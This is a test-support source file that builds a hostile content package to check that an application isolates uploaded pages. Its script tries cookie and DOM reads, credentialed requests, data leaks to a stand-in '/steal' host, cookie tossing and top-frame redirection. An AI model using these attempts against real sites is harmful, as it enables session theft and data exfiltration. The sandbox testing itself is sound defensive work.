import { manifest12, zipOf } from '#tests/support/packages'

/**
 * A package that tries everything a page can try against the application around it, and writes what it found into
 * its own page: one line for each attack.
 */
export const hostilePackage = (app: string, leak: string) =>
  zipOf({
    'imsmanifest.xml': manifest12([{ id: 'a' }]),
    'a.html': `<!doctype html><meta charset="utf-8"><pre id="out"></pre><div id="done"></div>
<form id="f" method="post" action="${app}/packages" target="_self"><input name="x"></form>
<script>
const out = {}
const attempt = async (name, run) => { try { out[name] = String(await run()) } catch (error) { out[name] = 'refused: ' + error.name } }
;(async () => {
  await attempt('cookie', () => document.cookie)
  await attempt('dom', () => top.document.body.innerHTML)
  await attempt('storage', () => top.localStorage.length)
  await attempt('read', () => fetch('${app}/me', { credentials: 'include' }).then((r) => r.text()))
  await attempt('post', () => fetch('${app}/packages', { method: 'POST', credentials: 'include', mode: 'no-cors', body: 'x=1' }).then((r) => r.type))
  await attempt('beacon', () => navigator.sendBeacon('${app}/packages', 'x'))
  await attempt('leak', () => fetch('${leak}/steal?c=1', { mode: 'no-cors' }).then((r) => r.type))
  await attempt('picture', () => new Promise((resolve) => { const i = new Image(); i.onload = () => resolve('loaded'); i.onerror = () => resolve('refused'); i.src = '${leak}/steal.png' }))
  await attempt('frame', () => new Promise((resolve) => { const f = document.createElement('iframe'); f.onload = () => { try { resolve(f.contentDocument ? 'readable' : 'closed') } catch { resolve('closed') } }; f.src = '${app}/me'; document.body.append(f); setTimeout(() => resolve('closed'), 1500) }))
  await attempt('popup', () => String(window.open('${app}/')))
  await attempt('worker', () => navigator.serviceWorker.register('sw.js').then(() => 'registered'))
  await attempt('hello', () => { top.postMessage({ type: 'tonle:hello', nonce: 'guess' }, '*'); return 'sent' })
  await attempt('toss', () => { document.cookie = 'tonle_session=EVIL; path=/packages'; return 'tried' })
  await attempt('form', () => { document.getElementById('f').submit(); return 'sent' })
  await attempt('top', () => { if (top === window) return 'alone'; top.location = '${leak}/top'; return 'sent' })
  document.getElementById('out').textContent = JSON.stringify(out)
  document.getElementById('done').textContent = 'done'
})()
</script>`,
    'sw.js': '',
  })
